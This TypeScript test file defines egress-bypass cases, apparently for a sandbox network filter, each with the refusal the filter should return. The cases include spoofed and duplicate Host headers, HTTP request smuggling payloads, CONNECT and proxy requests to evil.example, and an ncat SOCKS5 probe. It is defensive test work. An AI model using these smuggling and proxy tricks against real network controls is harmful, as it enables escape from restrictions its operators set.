/**
 * Rows N4 and T12: plain HTTP, where every request may ask for another host, and proxies, where the request names the
 * target. What a lenient server and a strict reader take differently is an attempt of its own.
 */
import type { Attack } from "../case.ts";
import { refused, request } from "../refusals.ts";

const kind = "attack";
const good = "GET / HTTP/1.1\r\nHost: plain.example\r\n\r\n";
const evil = (marker: string): string => `GET /${marker} HTTP/1.1\r\nHost: evil.example\r\n\r\n`;

/** Requests one after the other, or as they are cut, on a connection to the address of `plain.example`. */
function plain(
  variant: string,
  lines: (marker: string) => string[],
  refusal: Attack["refusal"],
  more: Partial<Attack> = {},
): Attack {
  return {
    kind,
    row: "N4",
    variant,
    run: async (job, marker) => {
      await job.resolve("plain.example");
      await job.dialogue(job.dot(80), 80, lines(marker));
    },
    refusal,
    ...more,
  };
}

/** Bytes that are no request that we and every server read alike. */
const malformed = (reason: string) => (job: { dot: (n: number) => string }) =>
  refused(reason, { ip: job.dot(80), port: 80 }, "name");

export const hostCases: Attack[] = [
  plain("the attacker's Host at an allowed name's address", (marker) => [evil(marker)], request("evil.example")),
  plain("another Host in a second request", (marker) => [good, evil(marker)], request("evil.example", "host_changed")),
  plain("both requests in one segment", (marker) => [good + evil(marker)], request("evil.example"), {
    foretold: request("evil.example", "host_changed"),
  }),
  plain(
    "the attacker's host in the target, the allowed one in Host",
    (marker) => [`GET http://evil.example/${marker} HTTP/1.1\r\nHost: plain.example\r\n\r\n`],
    malformed("malformed"),
  ),
  plain(
    "two Host fields, the allowed one first",
    (marker) => [`GET /${marker} HTTP/1.1\r\nHost: plain.example\r\nHost: evil.example\r\n\r\n`],
    malformed("invalid_name"),
  ),
  plain(
    "two Host fields, the attacker's first",
    (marker) => [`GET /${marker} HTTP/1.1\r\nHost: evil.example\r\nHost: plain.example\r\n\r\n`],
    malformed("invalid_name"),
  ),
  plain(
    "a folded Host field",
    (marker) => [`GET /${marker} HTTP/1.1\r\nX: y\r\n Host: plain.example\r\nHost: evil.example\r\n\r\n`],
    malformed("malformed"),
    { unreachable: "servers of today refuse folded fields (RFC 9112 section 5.2)" },
  ),
  plain("no Host at all", (marker) => [`GET /${marker} HTTP/1.0\r\n\r\n`], malformed("missing_name")),
  plain(
    "a second request hidden behind Content-Length and chunks",
    (marker) => [
      "POST / HTTP/1.1\r\nHost: plain.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" +
        `0\r\n\r\n${evil(marker)}`,
    ],
    malformed("malformed"),
  ),
  plain(
    "a second request hidden behind two lengths",
    (marker) => [
      `POST / HTTP/1.1\r\nHost: plain.example\r\nContent-Length: 0\r\nContent-Length: 200\r\n\r\n${evil(marker)}`,
    ],
    malformed("malformed"),
  ),
  plain(
    "bare line feeds between the fields",
    (marker) => [`GET /${marker} HTTP/1.1\nHost: evil.example\n\n`],
    malformed("malformed"),
    { unreachable: "the lab's server demands CRLF; others do not" },
  ),
  plain(
    "an upgrade to a protocol that we do not follow",
    (marker) => [
      `GET / HTTP/1.1\r\nHost: plain.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n` +
        `HTTP2-Settings: AAMAAABk\r\n\r\n`,
      evil(marker),
    ],
    request("evil.example", "host_changed"),
  ),
  plain(
    "HTTP/2 without TLS, with prior knowledge",
    (marker) => [`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${marker}`],
    malformed("not_protocol"),
  ),
  plain(
    "CONNECT to the attacker at a web server",
    (marker) => [`CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n${marker}`],
    request("evil.example"),
  ),
  {
    kind,
    row: "T12",
    variant: "CONNECT through a proxy that is allowed for http",
    run: async (job, marker) => {
      await job.resolve("proxy.example");
      await job.curl("-x", `http://${job.at(31)}:3128`, `https://evil.example/${marker}`);
    },
    refusal: request("evil.example", "default", 31, 3128),
  },
  {
    kind,
    row: "T12",
    variant: "CONNECT to an allowed name's address with the attacker's name inside",
    run: async (job, marker) => {
      await job.resolve("proxy.example");
      await job.curl(
        ...["-x", `http://${job.at(31)}:3128`, "--connect-to", "::proxy.example:443", `https://evil.example/${marker}`],
      );
    },
    refusal: (job) => refused("not_protocol", { ip: job.dot(31), port: 3128, protocol: "http" }, "name"),
  },
  {
    kind,
    row: "T12",
    variant: "a request for another host through that proxy",
    run: async (job, marker) => {
      await job.resolve("proxy.example");
      await job.curl("-x", `http://${job.at(31)}:3128`, `http://evil.example/${marker}`);
    },
    refusal: request("evil.example", "default", 31, 3128),
  },
  {
    kind,
    row: "T12",
    variant: "SOCKS5 to that proxy",
    run: async (job, marker) => {
      await job.resolve("proxy.example");
      await job.shell(`printf '\\005\\001\\000%s' ${marker} | ncat -w 1 ${job.dot(31)} 3128`);
    },
    refusal: (job) => refused("not_protocol", { ip: job.dot(31), port: 3128 }, "name"),
  },
];
